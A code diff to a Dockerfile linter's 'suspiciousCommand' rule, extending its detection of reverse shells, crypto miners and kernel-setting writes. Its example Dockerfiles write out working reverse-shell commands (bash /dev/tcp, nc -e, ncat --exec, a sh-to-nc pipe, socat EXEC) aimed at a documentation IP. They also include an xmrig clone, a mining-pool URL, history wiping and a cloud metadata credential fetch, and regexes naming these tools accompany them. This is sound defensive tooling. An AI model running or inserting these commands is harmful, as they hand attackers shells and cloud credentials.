@@ -8,7 +8,8 @@ import type { ShellCommand } from "../../shell/model.ts";
 import { comparable } from "../../shell/words.ts";
 import { defineRule, type Report } from "../rule.ts";
 
-const MINERS = /(?:^|[/\s=@'"-])(xmrig|minerd|cpuminer(?:-multi)?|ethminer|nbminer|xmr-stak|stratum\+(?:tcp|ssl))(?:$|[/\s:.'"@-])/i;
+const MINERS =
+	/(?:^|[/\s=@'"-])(xmrig|minerd|cpuminer(?:-multi)?|ethminer|nbminer|xmr-stak|stratum\+(?:tcp|ssl))(?:$|[/\s:.'"@]|-v?\d|-(?:linux|x86|amd64|cuda|static|multi))/i;
 /** What the names of miners have one of. */
 const MINER_PARTS = /miner|xmr|stratum/i;
 const POWERSHELL = /powershell|pwsh/i;
@@ -52,7 +53,7 @@ export const suspiciousCommand = defineRule({
 	examples: [
 		{
 			caption: "Shells for others",
-			bad: 'FROM debian:12\nRUN «bash» -i >& /dev/tcp/203.0.113.5/4444 0>&1\nRUN «nc» -e /bin/sh 203.0.113.5 4444\nCMD sh -c "«ncat» 203.0.113.5 4444 --exec /bin/bash"\n',
+			bad: 'FROM debian:12\nRUN «bash» -i >& /dev/tcp/203.0.113.5/4444 0>&1\nRUN «nc» -e /bin/sh 203.0.113.5 4444\nCMD sh -c "«ncat» 203.0.113.5 4444 --exec /bin/bash"\nRUN cat /f | «sh» -i 2>&1 | nc 203.0.113.5 80 > /f; «socat» TCP:203.0.113.5:80 EXEC:/bin/sh\n',
 		},
 		{
 			caption: "Decoded and run",
@@ -60,7 +61,7 @@ export const suspiciousCommand = defineRule({
 		},
 		{
 			caption: "Miners, traces, settings, credentials",
-			bad: 'FROM debian:12\nRUN git clone «https://github.com/xmrig/xmrig.git»\nRUN «chattr» +i /etc/passwd && «unset» HISTFILE && echo 1 «>» /proc/sys/net/ipv4/ip_forward\nRUN curl -s «http://169.254.169.254/latest/meta-data/iam/security-credentials/» > /c\nENTRYPOINT ["/x", «"stratum+tcp://pool.example.com:3333"»]\n',
+			bad: 'FROM debian:12\nRUN git clone «https://github.com/xmrig/xmrig.git»\nRUN «chattr» +i /etc/passwd && «unset» HISTFILE && echo 1 «>» /proc/sys/net/ipv4/ip_forward && echo 1 | «tee» /proc/sys/net/ipv4/ip_forward\nRUN curl -s «http://169.254.169.254/latest/meta-data/iam/security-credentials/» > /c\nENTRYPOINT ["/x", «"stratum+tcp://pool.example.com:3333"»]\n',
 		},
 		{
 			caption: "PowerShell",
@@ -72,7 +73,7 @@ export const suspiciousCommand = defineRule({
 		},
 		{
 			caption: "Only words",
-			good: "FROM debian:12\nENV HISTFILE=/data/history\nRUN echo 'RemoteIPInternalProxy 169.254.0.0/16' > /etc/x && echo base64 -d && apt-get install -y ncat history-tools && echo \"bash -i >& /dev/tcp/x\" > README\n",
+			good: "FROM debian:12\nENV HISTFILE=/data/history\nRUN echo 'RemoteIPInternalProxy 169.254.0.0/16' > /etc/x && echo base64 -d && apt-get install -y ncat history-tools && pip install minerd-exporter && echo \"bash -i >& /dev/tcp/x\" > README\n",
 		},
 	],
 	*check(file) {
@@ -93,7 +94,9 @@ export const suspiciousCommand = defineRule({
 });
 
 /** Without shells and Python. */
-const PROGRAMS: ReadonlySet<string> = new Set("nc ncat netcat nc.traditional base64 openssl xxd eval chattr unset ln curl wget".split(" "));
+const PROGRAMS: ReadonlySet<string> = new Set(
+	"nc ncat netcat nc.traditional socat tee base64 openssl xxd eval chattr unset ln curl wget".split(" "),
+);
 
 /** Whether a command can be anything that {@link inCommand} reports. */
 function isLookedAt({ program, redirects }: ShellCommand): boolean {
@@ -117,9 +120,10 @@ function* inCommand(step: Step, command: ShellCommand): Generator<Report> {
 		step.keyword === "RUN"
 			? command.redirects.find(({ operator, target }) => operator.startsWith(">") && /^\/proc\/sys\//.test(target?.value ?? ""))
 			: undefined;
-	if (kernel !== undefined)
+	const file = step.keyword === "RUN" && program === "tee" ? command.args.find((word) => word.value?.startsWith("/proc/sys/")) : undefined;
+	if (kernel !== undefined || file !== undefined)
 		yield {
-			span: { start: kernel.span.start, end: kernel.span.start + kernel.operator.length },
+			span: kernel === undefined ? name.span : { start: kernel.span.start, end: kernel.span.start + kernel.operator.length },
 			message: "A setting of the build machine's kernel is written",
 			severity: "warning",
 			subCode: "kernel",
@@ -150,10 +154,25 @@ function givesShell(command: ShellCommand, texts: readonly string[]): boolean {
 	const { program = "" } = command;
 	const connected = command.redirects.some(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target === undefined ? "" : comparable(target)));
 	if (POSIX_SHELLS.has(program))
-		return connected && texts.some((text) => /^-[a-z]*i/.test(text)) && !texts.some((text) => /^-[a-z]*c$/.test(text));
-	if (!/^(?:nc|ncat|netcat|nc\.traditional)$/.test(program)) return false;
+		return (
+			(connected || isPipedOut(command)) && texts.some((text) => /^-[a-z]*i/.test(text)) && !texts.some((text) => /^-[a-z]*c$/.test(text))
+		);
+	if (program === "socat")
+		return (
+			texts.some((text) => /^(?:tcp|udp|openssl)/i.test(text)) &&
+			texts.some((text) => /^(?:exec|system):["']?(?:\/\S*\/)?(?:ba|da|z)?sh\b/i.test(text))
+		);
+	if (!NETCATS.test(program)) return false;
 	const at = texts.findIndex((text) => /^-[a-zA-Z]*[ec]$|^--(?:sh-)?exec$/.test(text));
 	return at !== -1 && /(?:^|\/)(?:ba|da|a|z)?sh\b|cmd(?:\.exe)?$|powershell/.test(texts[at + 1] ?? "");
+}
+
+const NETCATS = /^(?:nc|ncat|netcat|nc\.traditional)$/;
+
+/** `sh -i 2>&1 | nc HOST PORT`. */
+function isPipedOut(command: ShellCommand): boolean {
+	const members = command.pipeline?.commands ?? [];
+	return NETCATS.test(members[members.indexOf(command) + 1]?.program ?? "");
 }
 
 function decodes({ program }: ShellCommand, texts: readonly string[]): boolean {
